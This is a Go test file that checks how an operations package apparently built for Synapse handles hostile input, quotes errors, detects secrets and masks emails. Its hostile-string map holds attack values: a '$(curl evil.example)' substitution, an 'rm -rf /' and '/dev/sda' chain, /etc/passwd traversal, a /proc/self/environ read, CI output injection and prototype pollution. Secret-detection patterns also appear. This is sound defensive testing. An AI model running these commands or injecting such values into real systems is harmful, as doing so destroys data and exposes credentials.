package ops_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	ops "github.com/Sage-Bionetworks/synapse-ops-core"
)

// hostile is text that has broken other programs: shells, CSV readers, terminals,
// logs, JSON decoders and eyes.
var hostile = map[string]string{
	"quotes":               `"; '"'"' \" ''`,
	"command substitution": "$(curl evil.example) ${HOME} $((1/0))",
	"backticks":            "`id`",
	"shell operators":      "1; rm -rf / && : | tee > /dev/sda &",
	"option in disguise":   "--config=/etc/passwd",
	"commas":               ",,,,",
	"newlines":             "1\n2\r\n3\r4\n::set-output name=x::y",
	"nul":                  "123\x00456",
	"right to left":        "\u202e\u2066gpj.exe\u2069 \u200f\u061c",
	"zero width":           "1\u200b2\u200c3\u200d4\u20605\ufeff",
	"soft hyphen":          "1\u00ad2",
	"tag characters":       "\U000e0001\U000e0041\U000e007f",
	"line separators":      "1\u20282\u20293\u00854",
	"blanks":               "\u00a0\u2003\u3000\u180e",
	"64 KiB":               strings.Repeat("A", 64<<10),
	"64 KiB of wide":       strings.Repeat("\U0010fffd", 16<<10),
	"64 KiB of separators": strings.Repeat(", \n", 22<<10),
	"64 KiB of escapes":    strings.Repeat("\x1b", 64<<10),
	"64 KiB of braces":     strings.Repeat("{\"a\":[", 11<<10),
	"a file":               "@/proc/self/environ",
	"a failed run":         "@failed:20261123T141502Z-remove-user-3f9c",
	"a parent folder":      "../../../../etc/passwd",
	"color":                "\x1b[31;1mred\x1b[0m\x1b]0;title\x07",
	"single-byte escape":   "\u009b31m",
	"backspaces":           "admin\b\b\b\b\bguest\r",
	"invalid UTF-8":        "abc\xff\xfe\xc0\xaf\xed\xa0\x80",
	"cut UTF-8":            "\xe2\x80",
	"homoglyphs":           "ѕуn123 раураl",
	"full-width digits":    "１２３",
	"combining marks":      "Z" + strings.Repeat("\u0351", 200),
	"format verbs":         "%s%n%x%!d(MISSING) %",
	"template":             "{{.Env}} ${{ secrets.GH_PAT }} #{1}",
	"proto":                `{"__proto__":{"admin":true},"constructor":{}}`,
	"escaped controls":     `{"a":"\u0000\u001b\u202e\u009b"}`,
	"number":               `{"a":-0.0e-999999999999}`,
	"overlong number":      strings.Repeat("9", 5000),
	"e-mail":               "a@b.c\nBcc: d@e.f",
	"long e-mail":          strings.Repeat("a", 64) + "@" + strings.Repeat("b.", 200) + "c",
	"noncharacter":         "\uffff\ufffe\ufdd0",
	"replacement":          "\ufffd",
}

// TestHostileText gives each hostile text to each input: either it is refused with
// a message that is safe to print, or it is taken and means the same when the
// worker parses it again. Nothing panics.
func TestHostileText(t *testing.T) {
	task := everyKind()
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			for _, in := range task.Inputs {
				for _, raw := range []string{text, "1," + text, text + " x", `{"k":"` + text + `"}`, `{"` + text + `":1}`} {
					checkParse(t, task, map[string]string{in.Name: raw})
				}
			}
			checkParse(t, task, map[string]string{text: text})
		})
	}
}

// checkParse parses and checks what holds for any input at all.
func checkParse(t testing.TB, task *ops.Task, raw map[string]string) {
	t.Helper()
	v, err := task.Parse(raw)
	if err != nil {
		var all *ops.InputErrors
		if !errors.As(err, &all) || len(all.Errors) == 0 {
			t.Fatalf("Parse returned %T without errors", err)
		}
		wantPrintable(t, err.Error())
		for _, e := range all.Errors {
			wantPrintable(t, e.Input)
			wantPrintable(t, e.Value)
		}
		return
	}
	for _, n := range v.Notes() {
		wantPrintable(t, n)
	}
	for name, text := range v.Canonical() {
		if i := strings.IndexFunc(text, unseen); i >= 0 {
			t.Errorf("input %s was taken with a character nobody sees at byte %d: %.200q", name, i, text)
		}
	}
	wantIdempotent(t, task, v)
}

// unseen is written out, not asked of the package under test: the characters with
// which text has been made to look like other text.
func unseen(r rune) bool {
	switch {
	case r == '\n' || r == '\t':
		return false
	case r < 0x20, r >= 0x7F && r <= 0x9F, r == 0xAD, r == 0x61C, r == 0x180E, r == 0xFEFF:
		return true
	case r >= 0x200B && r <= 0x200F, r >= 0x2028 && r <= 0x202E, r >= 0x2060 && r <= 0x2069, r >= 0xE0001 && r <= 0xE007F:
		return true
	}
	return false
}

// TestHostileNamesInOtherErrors prints hostile text through every other error of
// the package that quotes some.
func TestHostileNamesInOtherErrors(t *testing.T) {
	catalog := ops.Catalog{{Name: "remove-user"}, {Name: "reenable-user"}}
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			_, unknown := catalog.Task(ops.TaskName(text))
			_, id := ops.ParseRunID(text)
			_, digest := ops.ParseDigest(text)
			for _, err := range []error{unknown, id, digest} {
				if ops.CodeOf(err) != ops.Invalid {
					t.Errorf("got %v, want an error of code invalid", err)
					continue
				}
				wantPrintable(t, err.Error())
			}
			wantPrintable(t, ops.Quote(text))
			wantPrintable(t, ops.Clip(text))
			if n := len(ops.Clip(text)); n > 500 {
				t.Errorf("Clip returns %d bytes", n)
			}
		})
	}
}

// TestQuote pins how outside text looks in a message.
func TestQuote(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"alice", `"alice"`},
		{"", `""`},
		{`say "hi"\n`, `"say \"hi\"\\n"`},
		{"Zürich 東京", `"Zürich 東京"`},
		{"a\nb\x1b[0m", `"a\nb\x1b[0m"`},
		{"a\u202eb\u200bc\u00a0d", `"a\u202eb\u200bc\u00a0d"`},
		{"a\xffb", `"a\xffb"`},
		{"a\ufffdb", `"a` + "\ufffd" + `b"`},
		{strings.Repeat("é", 120), `"` + strings.Repeat("é", 120) + `"`},
		{strings.Repeat("é", 121), `"` + strings.Repeat("é", 120) + `"… (242 bytes)`},
		{strings.Repeat("\U000e0001", 50), `"` + strings.Repeat(`\U000e0001`, 47) + `"… (200 bytes)`},
	} {
		if got := ops.Quote(c.text); got != c.want {
			t.Errorf("Quote(%+q) = %s, want %s", c.text, got, c.want)
		}
	}
	// Cutting must be as quick for a long text as for a short one.
	if allocs := testing.AllocsPerRun(5, func() { ops.Quote(hostile["64 KiB"]) }); allocs > 500 {
		t.Errorf("Quote of 64 KiB takes %v allocations", allocs)
	}
}

// TestLooksSecret keeps tokens out of every document, and lets what tasks are
// about pass.
func TestLooksSecret(t *testing.T) {
	hex40 := strings.Repeat("a1B2c", 8)
	for _, s := range []string{
		"eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", // a Synapse personal access token is a JWT
		"Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0",
		"ghp_" + hex40, "gho_" + hex40, "ghu_" + hex40, "ghs_" + hex40, "ghr_" + hex40,
		"github_pat_" + hex40,
		"AKIA" + "IOSFODNN7EXAMPLE", "ASIA" + "IOSFODNN7EXAMPLE", "key=AKIA" + "IOSFODNN7EXAMPLE,",
		"-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----",
		"authorization: bearer 0123456789-abc.def", "xoxb-1234567890-abc",
		"text around ghp_" + hex40 + " it", "line\nghp_" + hex40,
	} {
		if !ops.LooksSecret(s) {
			t.Errorf("LooksSecret(%q) = false", s)
		}
	}
	for _, s := range []string{
		"", "3350396", "syn123,syn456", "jane@example.org", "verify-oauth-client",
		string(ops.DigestOf([]byte("x"))), "20261123T141502Z-remove-user-3f9c",
		"the bearer of bad news", "eyJ", "eyJust a word.", "ghp_short", "AKIA", "MAKIA" + "IOSFODNN7EXAMPLEX",
		"https://repo-prod.prod.sagebase.org/repo/v1", `{"concreteType":"org.sagebionetworks.repo.model.AdminRequest"}`,
		"550e8400-e29b-41d4-a716-446655440000",
	} {
		if ops.LooksSecret(s) {
			t.Errorf("LooksSecret(%q) = true", s)
		}
	}
}

func TestMaskEmail(t *testing.T) {
	for _, c := range []struct{ email, want string }{
		{"jane@example.org", "j***@example.org"},
		{"élise@example.org", "é***@example.org"},
		{"j@example.org", "j***@example.org"},
		{"", "***"},
		{"jane", "***"},
		{"@example.org", "***"},
		{"reach jane@example.org at home, 555-1234", "***"}, // a sentence: what follows the @ is personal too
		{`{"mail":"jane@example.org"}`, "***"},
		{"jane@example.org,joe@example.org", "***"},
	} {
		if got := ops.MaskEmail(c.email); got != c.want {
			t.Errorf("MaskEmail(%q) = %q, want %q", c.email, got, c.want)
		}
	}
}

func TestNearest(t *testing.T) {
	names := []string{"verify-oauth-client", "remove-user", "remove-user-2fa", "reenable-user"}
	for _, c := range []struct{ typed, want string }{
		{"remove-usr", "remove-user"},
		{"remove_user", "remove-user"},
		{"remove-user2fa", "remove-user-2fa"},
		{"verify-client", ""}, // six letters short: not a slip of the finger
		{"renable-user", "reenable-user"},
		{"migrate", ""},
		{"", ""},
		{strings.Repeat("x", 64<<10), ""},
		{"é", ""},
	} {
		if got := ops.Nearest(c.typed, names); got != c.want {
			t.Errorf("Nearest(%.40q) = %q, want %q", c.typed, got, c.want)
		}
	}
	if got := ops.Nearest("x", nil); got != "" {
		t.Errorf("Nearest among none = %q", got)
	}
	_, err := ops.Catalog{{Name: "remove-user"}}.Task("remove-usr")
	if want := `there is no task "remove-usr". Did you mean "remove-user"? "synops tasks" lists all.`; fmt.Sprint(err) != want {
		t.Errorf("got %v\nwant %s", err, want)
	}
}
